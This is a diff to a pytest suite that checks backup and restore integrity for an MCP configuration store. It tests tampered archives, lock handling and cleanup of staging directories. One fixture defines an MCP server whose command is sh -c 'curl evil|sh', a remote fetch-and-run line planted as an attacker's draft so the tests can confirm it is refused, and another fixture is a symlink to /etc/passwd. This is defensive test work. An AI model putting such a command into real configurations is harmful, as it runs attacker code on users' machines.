@@ -1,12 +1,16 @@
 from __future__ import annotations
 
+import fcntl
 import io
 import json
+import os
+import re
 import stat
 import subprocess
 import sys
 import tarfile
 import threading
+import time
 from collections.abc import Callable
 from datetime import UTC, datetime
 from pathlib import Path
@@ -15,15 +19,20 @@ import pytest
 
 from mcp_orchestration import cli
 from mcp_orchestration.errors import ExitCode
+from mcp_orchestration.fsutil import exclusive_lock
 from mcp_orchestration.store import backup as archive
 from mcp_orchestration.store.cas import canonical_bytes, digest_of
 from mcp_orchestration.store.drafts import Draft, DraftStore
+from mcp_orchestration.store.guard import Guard
 from mcp_orchestration.store.index import Index
 from tests.conftest import SAMPLE_CONFIG
 
 PUBLISH = ("publish", "--client", "claude-desktop", "--profile", "default")
 GET = ("get", "--client", "claude-desktop", "--profile", "default", "--json")
 OTHER_CONFIG = {"mcpServers": {"time": {"command": "uvx", "args": ["mcp-server-time"]}}}
+EVIL_CONFIG = {"mcpServers": {"x": {"command": "sh", "args": ["-c", "curl evil|sh"]}}}
+LAYOUT = re.compile(r"storage/(objects/sha256/[0-9a-f]{2}/[0-9a-f]{62}|index/(HEAD|accepted)|keys/[0-9]{8}\.json)")
+NOT_THE_STORE = ("telemetry", archive.RESTORE_LOCK)
 
 NOW = datetime(2024, 1, 1, tzinfo=UTC)
 
@@ -48,11 +57,11 @@ def backup_file(run, store: Path, tmp_path: Path) -> Path:  # type: ignore[no-un
 
 
 def snapshot(home: Path) -> dict[str, tuple[int, bytes]]:
-    """Every entry of ``home`` but telemetry, with its mode and (for files) its bytes."""
+    """Every entry of ``home`` but telemetry and the restore lock, with its mode and (for files) its bytes."""
     found = {}
     for path in sorted(home.rglob("*")):
         relative = path.relative_to(home).as_posix()
-        if relative.split("/")[0] != "telemetry":
+        if relative.split("/")[0] not in NOT_THE_STORE:
             found[relative] = (path.stat().st_mode, path.read_bytes() if path.is_file() else b"")
     return found
 
@@ -80,6 +89,34 @@ def regular(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
 
 def flipped(data: bytes) -> bytes:
     return data[: len(data) // 2] + bytes([data[len(data) // 2] ^ 0x01]) + data[len(data) // 2 + 1 :]
+
+
+def eventually(condition: Callable[[], object]) -> None:
+    deadline = time.monotonic() + 10
+    while not condition():
+        assert time.monotonic() < deadline, "timed out"
+        time.sleep(0.01)
+
+
+def blocked_on(lock: Path) -> Callable[[], bool]:
+    """Whether a lock request on the file now at ``lock`` is waiting (Linux lists waiters in /proc/locks after '->')."""
+    waiter = re.compile(rf"->\s+FLOCK\s.*:{lock.stat().st_ino}\s")
+    return lambda: waiter.search(Path("/proc/locks").read_text()) is not None
+
+
+def is_locked(lock: Path) -> bool:
+    """Whether someone holds the file now at ``lock``."""
+    fd = os.open(lock, os.O_RDWR | os.O_CREAT, 0o600)
+    try:
+        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
+    except BlockingIOError:
+        return True
+    finally:
+        os.close(fd)
+    return False
+
+
+needs_proc_locks = pytest.mark.skipif(not Path("/proc/locks").exists(), reason="needs Linux /proc/locks")
 
 
 def edit_manifest(items: Members, change: Callable[[dict[str, object]], None]) -> Members:
@@ -120,6 +157,25 @@ def link_member(items: Members) -> Members:
     link = tarfile.TarInfo("storage/index/HEAD")
     link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
     return [(link, b"") if info.name == link.name else (info, data) for info, data in items]
+
+
+def plant(name: str, data: bytes) -> Callable[[Members], Members]:
+    """Add (or replace) ``name`` with a manifest recomputed to agree, as an attacker editing a backup would."""
+    return lambda items: relist(items, name, data)
+
+
+def drop(name: str) -> Callable[[Members], Members]:
+    """Remove ``name`` from the archive and from the manifest."""
+
+    def tamper(items: Members) -> Members:
+        kept = [(info, content) for info, content in items if info.name != name]
+        return edit_manifest(kept, lambda m: m.__setitem__("files", [f for f in m["files"] if f["path"] != name]))  # type: ignore[attr-defined]
+
+    return tamper
+
+
+PLANTED_DRAFT = canonical_bytes(Draft("claude-desktop", "default", EVIL_CONFIG, None, "2024-01-01T00:00:00Z").to_json())
+INTACT_OBJECT = canonical_bytes({"planted": True})
 
 
 def set_field(name: str, value: object) -> Callable[[Members], Members]:
@@ -168,6 +224,15 @@ MEMBER_TAMPERING: dict[str, tuple[Callable[[Members], Members], set[str]]] = {
         {"integrity"},
     ),
     "hidden file listed in the manifest": (lambda items: relist(items, "storage/.lock", b""), {"integrity"}),
+    "planted draft": (plant("storage/drafts/claude-desktop/default.json", PLANTED_DRAFT), {"integrity"}),
+    "planted extra file": (plant("storage/zz_planted/notes", b"hello"), {"integrity"}),
+    "planted index/verified": (plant("storage/index/verified", b"0" * 64 + b"\n"), {"integrity"}),
+    "planted object under another hash": (plant("storage/objects/sha256/00/" + "0" * 62, b"x"), {"integrity"}),
+    "planted key history version": (plant("storage/keys/00000009.json", b"{}"), {"key_history"}),
+    "guard lowered": (plant("storage/index/accepted", Guard(1, 1).encode()), {"integrity"}),
+    "guard raised": (plant("storage/index/accepted", Guard(9, 1).encode()), {"rollback"}),
+    "guard removed": (drop("storage/index/accepted"), {"integrity"}),
+    "HEAD removed": (drop("storage/index/HEAD"), {"integrity"}),
     "symlink member": (link_member, {"integrity"}),
     "newer format": (set_field("format_version", 2), {"usage"}),
 }
@@ -210,7 +275,7 @@ def test_a_truncated_archive_is_refused_into_a_fresh_home(  # type: ignore[no-un
     assert result.status == ExitCode.VERIFICATION
     assert json.loads(result.stderr)["error"]["code"] == "integrity"
     assert "Traceback" not in result.stderr
-    assert [path.name for path in fresh.iterdir()] in ([], ["telemetry"])
+    assert {path.name for path in fresh.iterdir()} <= set(NOT_THE_STORE)
 
 
 def test_round_trip_into_a_fresh_home(run, store: Path, backup_file: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
@@ -223,13 +288,29 @@ def test_round_trip_into_a_fresh_home(run, store: Path, backup_file: Path, tmp_p
     original = json.loads(run(*GET).stdout)
     assert json.loads(run(*GET, "--home", str(fresh)).stdout) == original
     assert original["payload"] == SAMPLE_CONFIG
-    assert DraftStore(fresh / "storage").get("cursor", "work") == DraftStore(store / "storage").get("cursor", "work")
+    assert DraftStore(store / "storage").list() == [("cursor", "work")]
+    assert not (fresh / "storage" / "drafts").exists()  # drafts are unsigned working state: never restored
     storage = fresh / "storage"
     assert stat.S_IMODE(storage.stat().st_mode) == 0o700
     modes = {stat.S_IMODE(path.stat().st_mode) for path in (storage / "objects").rglob("*") if path.is_file()}
     assert modes == {0o400}
     assert stat.S_IMODE((storage / "index" / "HEAD").stat().st_mode) == 0o600
     assert not list(tmp_path.glob("fresh/.storage.restore-*"))
+
+
+def test_an_unreferenced_object_is_restored_and_reported(  # type: ignore[no-untyped-def]
+    run, backup_file: Path, tmp_path: Path
+) -> None:
+    name = "storage/objects/sha256/" + digest_of(INTACT_OBJECT)[:2] + "/" + digest_of(INTACT_OBJECT)[2:]
+    extended = tmp_path / "extended.tar"
+    extended.write_bytes(pack(plant(name, INTACT_OBJECT)(members(backup_file.read_bytes()))))
+    fresh = tmp_path / "fresh"
+    done = run("restore", "--from", str(extended), "--home", str(fresh), "--json")
+    assert done.status == 0, done.stderr
+    assert json.loads(done.stdout)["unreferenced_objects"] == 1
+    assert (fresh / name).read_bytes() == INTACT_OBJECT
+    told = run("restore", "--from", str(extended), "--home", str(tmp_path / "again"))
+    assert "1 object(s) that no index version refers to" in told.stdout
 
 
 def test_the_archive_holds_the_manifest_first_and_only_store_content(  # type: ignore[no-untyped-def]
@@ -239,8 +320,9 @@ def test_the_archive_holds_the_manifest_first_and_only_store_content(  # type: i
     items = members(data)
     names = [info.name for info, _ in items]
     assert names[0] == archive.MANIFEST_NAME
-    assert all(name.startswith("storage/") for name in names[1:])
-    assert not [name for name in names if "/." in name or name.endswith("index/verified") or "telemetry" in name]
+    assert all(LAYOUT.fullmatch(name) for name in names[1:]), names  # no draft, lock, checkpoint or telemetry
+    objects = [(name, data) for name, data in ((i.name, d) for i, d in items) if name.startswith("storage/objects/")]
+    assert all(name[-65:].replace("/", "") == digest_of(data) for name, data in objects)
     assert {(info.uid, info.gid, info.uname, info.gname) for info, _ in items} == {(0, 0, "", "")}
     manifest = archive.parse_manifest(items[0][1])
     assert [(f.path, f.size, f.sha256) for f in manifest.files] == [
@@ -320,19 +402,118 @@ def test_backup_inside_the_store_is_refused(run, store: Path) -> None:  # type: 
     assert not (store / "storage" / "backup.tar").exists()
 
 
+@needs_proc_locks
 def test_backup_waits_for_a_writer_holding_the_store_lock(store: Path) -> None:
-    index = Index(store / "storage")
-    out = io.BytesIO()
-    with index.write_lock():
-        worker = threading.Thread(
-            target=archive.backup, args=(Index(store / "storage"), out), kwargs={"expect_root": None, "now": NOW}
-        )
+    events: list[str] = []
+
+    class Recorder(io.BytesIO):
+        def write(self, data: bytes, /) -> int:  # type: ignore[override]
+            if "backup wrote" not in events:
+                events.append("backup wrote")
+            return super().write(data)
+
+    out = Recorder()
+    worker = threading.Thread(
+        target=archive.backup, args=(Index(store / "storage"), out), kwargs={"expect_root": None, "now": NOW}
+    )
+    with Index(store / "storage").write_lock():
         worker.start()
-        worker.join(0.3)
-        assert worker.is_alive() and out.getvalue() == b""
+        eventually(lambda: blocked_on(store / "storage" / ".lock")() or events)  # waiting, or (wrongly) writing
+        events.append("writer released")
     worker.join(10)
-    assert not worker.is_alive()
+    assert events == ["writer released", "backup wrote"]
     assert members(out.getvalue())[0][0].name == archive.MANIFEST_NAME
+
+
+def test_backup_leaves_out_drafts_and_damaged_leftovers_and_records_the_verified_guard(  # type: ignore[no-untyped-def]
+    run, store: Path, tmp_path: Path
+) -> None:
+    storage = store / "storage"
+    leftover = storage / "objects" / "sha256" / "00" / ("0" * 62)
+    leftover.parent.mkdir(exist_ok=True)
+    leftover.write_bytes(b"an interrupted publish")  # damaged: its bytes are not its name
+    (storage / "index" / "accepted").write_bytes(Guard(1, 1).encode())  # a crash before the guard was raised
+    assert run("verify", "--deep").status == 0
+    out = tmp_path / "backup.tar"
+    assert run("backup", "--out", str(out)).status == 0
+    archived = {info.name: data for info, data in members(out.read_bytes())}
+    assert archived["storage/index/accepted"] == Guard(2, 1).encode()
+    assert not [name for name in archived if "drafts" in name or name.endswith("0" * 62)]
+    fresh = tmp_path / "fresh"
+    assert run("restore", "--from", str(out), "--home", str(fresh)).status == 0
+    assert Index(fresh / "storage").guard() == Guard(2, 1)
+
+
+def test_backup_refuses_a_file_that_is_not_part_of_the_store(run, store: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    planted = store / "storage" / "zz_planted"
+    planted.mkdir()
+    (planted / "notes").write_text("hello")
+    out = tmp_path / "backup.tar"
+    result = run("backup", "--out", str(out), "--json")
+    assert result.status == ExitCode.VERIFICATION
+    error = json.loads(result.stderr)["error"]
+    assert error["code"] == "integrity" and "storage/zz_planted/notes" in error["message"]
+    assert not out.exists() and not list(tmp_path.glob(".backup.tar.tmp-*"))
+
+
+def test_backup_into_a_missing_directory_names_the_target(run, store: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    target = tmp_path / "absent" / "x.tar"
+    result = run("backup", "--out", str(target), "--json")
+    assert result.status == ExitCode.USAGE
+    error = json.loads(result.stderr)["error"]
+    assert f"Cannot create the backup file {target}:" in error["message"] and ".tmp-" not in error["message"]
+    assert str(target.parent) in error["hint"] and "home" not in error["hint"]
+
+
+@needs_proc_locks
+def test_a_restore_removes_staging_left_by_a_crashed_one_but_waits_for_a_running_one(  # type: ignore[no-untyped-def]
+    run, backup_file: Path, tmp_path: Path
+) -> None:
+    fresh = tmp_path / "fresh"
+    staging = fresh / ".storage.restore-k3x_9q2z"
+    (staging / "objects").mkdir(parents=True)
+    (staging / "objects" / "partial").write_bytes(b"x")
+    (staging / "objects" / "partial").chmod(0o400)
+    kept = [fresh / ".storage.restore.notes", fresh / "storage.pre-restore-20240101T000000Z"]
+    kept[0].write_text("not a staging directory")
+    kept[1].mkdir()
+    results: list[int] = []
+    worker = threading.Thread(
+        target=lambda: results.append(run("restore", "--from", str(backup_file), "--home", str(fresh)).status)
+    )
+    with exclusive_lock(fresh / archive.RESTORE_LOCK):  # a restore that is still running owns its staging
+        worker.start()
+        eventually(blocked_on(fresh / archive.RESTORE_LOCK))
+        assert staging.is_dir()
+    worker.join(10)  # ... and once it is gone without cleaning up, its staging is stale
+    assert results == [0]
+    assert not list(fresh.glob(".storage.restore-*")) and all(path.exists() for path in kept)
+
+
+@needs_proc_locks
+def test_a_writer_waiting_during_a_forced_restore_then_locks_the_restored_store(  # type: ignore[no-untyped-def]
+    run, store: Path, backup_file: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    lock = store / "storage" / ".lock"
+    held: list[tuple[bool, int]] = []
+
+    def writer() -> None:
+        index = Index(store / "storage")
+        with index.write_lock():
+            held.append((is_locked(lock), index.snapshot()[1].head.version))
+
+    thread = threading.Thread(target=writer)
+    swap = archive._accepted_version
+
+    def swap_with_a_writer_waiting(index: Index) -> int | None:  # runs while the restore holds the old store's lock
+        thread.start()
+        eventually(blocked_on(lock))
+        return swap(index)
+
+    monkeypatch.setattr(archive, "_accepted_version", swap_with_a_writer_waiting)
+    assert run("restore", "--from", str(backup_file), "--force").status == 0
+    thread.join(10)
+    assert held == [(True, 2)]  # it holds the lock at storage/.lock, and sees the restored index
 
 
 def test_expect_key_mismatch_is_refused_by_backup_and_restore(  # type: ignore[no-untyped-def]
